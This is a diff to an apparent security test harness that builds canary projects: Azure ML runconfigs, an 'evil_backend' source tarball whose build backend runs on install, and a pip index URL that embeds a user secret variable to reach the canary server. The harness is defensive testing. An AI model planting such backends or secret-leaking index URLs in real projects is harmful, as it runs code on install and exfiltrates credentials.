@@ -12,6 +12,7 @@ import json
 import os
 import subprocess
 import sys
+import tarfile
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -165,6 +166,7 @@ def _targets(canary: Canary) -> None:
         "named": "type: local\npythonLocation: evilpython\n",
         "searched": "type: local\n",
         "made": "type: local\npythonLocation: ./evil/env/bin/python\nuserManagedEnvironment: false\n",
+        "built": "type: local\nuserManagedEnvironment: false\n",
         "docker": f"type: docker\nbaseDockerImage: evil-image:latest\nuserManagedEnvironment: true\n{mounts}",
         "image": "type: docker\nbaseDockerImage: evil-image:latest\nuserManagedEnvironment: false\n",
         "shared": "type: docker\nbaseDockerImage: e\nuserManagedEnvironment: true\nnativeSharedDirectory: /\n",
@@ -185,6 +187,10 @@ def _targets(canary: Canary) -> None:
         canary.write(f"aml_config/{name}.runconfig", text)
     spark = f"Target: absolute\nFramework: PySpark\nArgumentVector:\n  - train.py\n{variables}"
     canary.write("aml_config/spark.runconfig", spark)
+    built = (
+        "Target: built\nFramework: Python\nCondaDependenciesFile: aml_config/built.yml\nArgumentVector:\n  - train.py\n"
+    )
+    canary.write("aml_config/built.runconfig", built)
     plugin = "Target: searched\nFramework: Python\nEnvironmentPlugin: evil\nArgumentVector:\n  - train.py\n"
     canary.write("aml_config/plugin.runconfig", plugin)
 
@@ -226,15 +232,20 @@ def _python_files(canary: Canary) -> None:
 
 def _packages(canary: Canary) -> None:
     """Packages from source, and an index whose address holds the name of a variable of the user."""
-    canary.module("sdist/setup.py", "source-package-setup")
-    build = '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n'
-    canary.write("sdist/pyproject.toml", build)
+    canary.module("evil-source-1.0/evil_backend.py", "source-package")
+    build = '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
+    canary.write("evil-source-1.0/pyproject.toml", build)
+    canary.write("evil-source-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil-source\nVersion: 1.0\n")
+    with tarfile.open(canary.root / "evil-source-1.0.tar.gz", "w:gz") as file:
+        file.add(canary.root / "evil-source-1.0", "evil-source-1.0")
     canary.write(
         "aml_config/conda_dependencies.yml",
         "name: project_environment\ndependencies:\n  - python=3.11\n  - pip:\n"
         f"    - --index-url http://user:${{{SECRET_NAME}}}@{canary.address}/index/${{{SECRET_NAME}}}/simple\n"
         "    - evil-package==1.0\n",
     )
+    source = "name: project_environment\ndependencies:\n  - python=3.11\n  - pip:\n    - ./evil-source-1.0.tar.gz\n"
+    canary.write("aml_config/built.yml", source)
 
 
 # -- everybody that the project names --------------------------------------------------------------------
